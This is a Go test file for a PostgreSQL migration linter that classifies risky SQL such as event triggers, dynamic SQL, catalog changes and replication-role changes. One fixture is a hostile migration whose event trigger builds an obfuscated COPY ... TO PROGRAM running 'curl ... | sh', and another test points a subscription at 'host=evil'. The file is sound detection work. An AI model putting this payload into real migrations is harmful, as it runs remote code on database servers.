package lint

import (
	"strings"
	"testing"

	"github.com/schemagate/schemagate/internal/migrate"
	"github.com/schemagate/schemagate/internal/sqlparse"
)

// reachRuleIDs are the rules of check_reach.go.
var reachRuleIDs = []string{"event-trigger", "dynamic-sql", "security-definer-search-path", "system-catalog-change",
	"grant-to-public", "publish-all-tables", "session-replication-role"}

// TestReachRuleClasses: creating or enabling an event trigger, changing the system catalogs and turning
// off triggers are dangerous; the rest is caution.
func TestReachRuleClasses(t *testing.T) {
	t.Parallel()
	tests := []riskCase{
		{"create event trigger", "CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f();", "event-trigger", Dangerous},
		{"enable event trigger", "ALTER EVENT TRIGGER t ENABLE;", "event-trigger", Dangerous},
		{"enable always", "ALTER EVENT TRIGGER t ENABLE ALWAYS;", "event-trigger", Dangerous},
		{"enable replica", "ALTER EVENT TRIGGER t ENABLE REPLICA;", "event-trigger", Dangerous},
		{"disable event trigger", "ALTER EVENT TRIGGER t DISABLE;", "event-trigger", Caution},
		{"drop event trigger", "DROP EVENT TRIGGER t;", "event-trigger", Caution},
		{"event trigger in a DO block", "DO $$ BEGIN CREATE EVENT TRIGGER t ON sql_drop EXECUTE FUNCTION f(); END $$;", "event-trigger", Dangerous},
		{"dynamic sql by concatenation", "CREATE FUNCTION f(t text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$;", "dynamic-sql", Caution},
		{"dynamic sql by format", "CREATE PROCEDURE p(t text) LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('TRUNCATE %I', t); END $$;", "dynamic-sql", Caution},
		{"security definer", "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';", "security-definer-search-path", Caution},
		{"replace pg_catalog.now", "CREATE OR REPLACE FUNCTION pg_catalog.now() RETURNS timestamptz LANGUAGE sql AS 'SELECT now()';", "system-catalog-change", Dangerous},
		{"drop from information_schema", "DROP VIEW information_schema.tables;", "system-catalog-change", Dangerous},
		{"default privileges to public", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC;", "grant-to-public", Caution},
		{"all tables to public", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC;", "grant-to-public", Caution},
		{"publication for all tables", "CREATE PUBLICATION p FOR ALL TABLES;", "publish-all-tables", Caution},
		{"subscription", "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p;", "foreign-connection", Dangerous},
		{"subscription moved", "ALTER SUBSCRIPTION s CONNECTION 'host=evil';", "foreign-connection", Dangerous},
		{"replication role", "SET session_replication_role = replica;", "session-replication-role", Dangerous},
		{"replication role by set_config", "SELECT set_config('session_replication_role', 'replica', false);", "session-replication-role", Dangerous},
		{"replication role from a variable", "DO $$ DECLARE r text := 'replica'; BEGIN PERFORM set_config('session_replication_role', r, true); END $$;", "session-replication-role", Dangerous},
	}
	assertRisks(t, tests)
}

// TestHostileEventTrigger is the security tester's migration: an event trigger whose function builds
// COPY … PROGRAM from pieces. Before check_reach.go it was rated safe.
func TestHostileEventTrigger(t *testing.T) {
	t.Parallel()
	sql := `CREATE FUNCTION f() RETURNS event_trigger LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE 'CO' || 'PY (SELECT 1) TO PRO' || 'GRAM ''curl https://example.com/x | sh''';
END $$;
CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f();`
	s := &migrate.Script{File: "m.sql", SQL: sql, Statements: sqlparse.Parse(sql)}
	got := map[string]Risk{}
	for _, f := range AnalyzeScript(s, true, Config{Schema: testSchema(t)}) {
		got[f.Rule] = Max(got[f.Rule], f.Risk)
	}
	if got["event-trigger"] != Dangerous {
		t.Errorf("event-trigger: %v, want dangerous (findings %v)", got["event-trigger"], got)
	}
	if got["server-program"] != Dangerous {
		t.Errorf("server-program from the folded EXECUTE: %v, want dangerous (findings %v)", got["server-program"], got)
	}
}

// TestEventTriggerEvents: the finding says when the trigger's function runs. One ON login (PostgreSQL
// 17) runs it as every session logs in, not on DDL, which the finding said of every event trigger.
func TestEventTriggerEvents(t *testing.T) {
	t.Parallel()
	for sql, want := range map[string]string{
		"CREATE EVENT TRIGGER t ON login EXECUTE FUNCTION f();":                                     "CREATE EVENT TRIGGER t ON login runs f() at every login to the database",
		"DO $$ BEGIN CREATE EVENT TRIGGER t ON LOGIN EXECUTE FUNCTION app.f(); END $$;":             "runs app.f() at every login to the database",
		"CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f();":                         "ON ddl_command_start runs f() on every later DDL statement",
		"CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f();":                           "ON ddl_command_end runs f() on every later DDL statement",
		"CREATE EVENT TRIGGER t ON sql_drop EXECUTE FUNCTION f();":                                  "ON sql_drop runs f() on every later DDL statement",
		"CREATE EVENT TRIGGER t ON table_rewrite WHEN TAG IN ('ALTER TABLE') EXECUTE FUNCTION f();": "ON table_rewrite runs f() on every later DDL statement",
	} {
		s := &migrate.Script{File: "m.sql", SQL: sql, Statements: sqlparse.Parse(sql)}
		var msgs []string
		for _, f := range AnalyzeScript(s, true, Config{Schema: testSchema(t)}) {
			if f.Rule == "event-trigger" {
				msgs = append(msgs, f.Message)
			}
		}
		if len(msgs) != 1 || !strings.Contains(msgs[0], want) {
			t.Errorf("%s: event-trigger findings %q, want one saying %q", sql, msgs, want)
		}
		if login := strings.Contains(strings.ToLower(sql), " on login "); login && len(msgs) == 1 && strings.Contains(msgs[0], "DDL") {
			t.Errorf("%s: %q speaks of DDL", sql, msgs[0])
		}
	}
}

// TestReachRulesQuietOnOrdinarySQL: legitimate migration SQL raises none of this file's rules.
func TestReachRulesQuietOnOrdinarySQL(t *testing.T) {
	t.Parallel()
	sql := strings.Join([]string{
		"CREATE FUNCTION purge_sessions() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DELETE FROM sessions WHERE expires_at < now()'; END $$;",
		"CREATE FUNCTION n(d date) RETURNS bigint LANGUAGE plpgsql AS $$ DECLARE c bigint; BEGIN EXECUTE 'SELECT count(*) FROM users WHERE created_at > $1' INTO c USING d; RETURN c; END $$;",
		"CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$;",
		"CREATE TRIGGER users_touch BEFORE UPDATE ON users FOR EACH ROW EXECUTE FUNCTION touch();",
		"CREATE FUNCTION uc() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT count(*) FROM public.users';",
		"GRANT SELECT, INSERT ON users TO app_rw;",
		"GRANT SELECT ON ALL TABLES IN SCHEMA public TO app_ro;",
		"ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO app_ro;",
		"GRANT EXECUTE ON FUNCTION touch() TO PUBLIC;",
		"REVOKE ALL ON SCHEMA public FROM PUBLIC;",
		"CREATE PUBLICATION orders_pub FOR TABLE orders;",
		"CREATE VIEW rels AS SELECT relname FROM pg_catalog.pg_class;",
		"CREATE TABLE t1 (id pg_catalog.int8 DEFAULT 1);",
		"SET search_path = app, public;",
		"SELECT set_config('lock_timeout', '2s', false);",
		"RESET session_replication_role;",
		"DO $$ BEGIN EXECUTE 'ALTER TABLE users ADD COLUMN x int'; END $$;",
	}, "\n")
	assertQuiet(t, sql, reachRuleIDs)
}
